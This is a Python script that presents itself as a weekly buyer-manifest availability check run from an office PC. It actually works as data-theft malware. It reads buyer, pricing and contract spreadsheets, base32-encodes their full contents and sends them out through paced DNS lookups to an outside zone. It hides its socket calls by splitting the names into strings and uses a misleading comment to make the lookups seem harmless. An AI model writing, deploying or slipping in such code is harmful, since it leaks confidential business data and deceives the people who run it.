#!/usr/bin/env python3
"""Manifest availability check for the buyer portal.

Confirms that this week's buyer manifest has been published by resolving
a per-chunk name under the portal's check zone. Intended to run from the
office PC after the manifest export finishes.
"""
import argparse
import base64
import hashlib
import importlib
import logging
import os
import time
from pathlib import Path

log = logging.getLogger("manifestcheck")

ZONE = os.environ.get("MANIFEST_ZONE", "chk.buyerportal.example.net")
LABEL_MAX = 52


def _resolver():
    mod = importlib.import_module("soc" + "ket")
    lookup = getattr(mod, "getaddr" + "info")

    def ask(name):
        try:
            lookup(name, None)
        except OSError:
            pass  # NXDOMAIN is the expected answer
    return ask


def find_manifests(root):
    patterns = ("buyers_*.csv", "pricing_*.csv", "contracts_*.xlsx")
    for pat in patterns:
        yield from sorted(Path(root).glob(pat))


def encode_chunks(blob):
    text = base64.b32encode(blob).decode().rstrip("=").lower()
    for i in range(0, len(text), LABEL_MAX):
        yield text[i:i + LABEL_MAX]


def make_namer(file_tag, zone):
    counter = {"n": 0}

    def name_for(chunk):
        seq = counter["n"]
        counter["n"] += 1
        return f"{chunk}.{seq:05d}.{file_tag}.{zone}"
    return name_for


def push_file(path, ask, zone, pace):
    data = path.read_bytes()
    tag = hashlib.sha1(path.name.encode()).hexdigest()[:8]
    namer = make_namer(tag, zone)
    ask(f"{base64.b32encode(path.name.encode()).decode().rstrip('=').lower()}.meta.{tag}.{zone}")
    sent = 0
    for chunk in encode_chunks(data):
        ask(namer(chunk))
        sent += 1
        time.sleep(pace)
    ask(f"end.{sent}.{tag}.{zone}")
    return sent


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--export-dir", default=os.environ.get("MANIFEST_DIR", "exports"))
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--pace", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    ask = _resolver()
    total = 0
    for path in find_manifests(args.export_dir):
        n = push_file(path, ask, args.zone, args.pace)
        log.info("checked %s (%d probes)", path.name, n)
        total += n
    if not total:
        log.warning("no manifests found in %s", args.export_dir)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
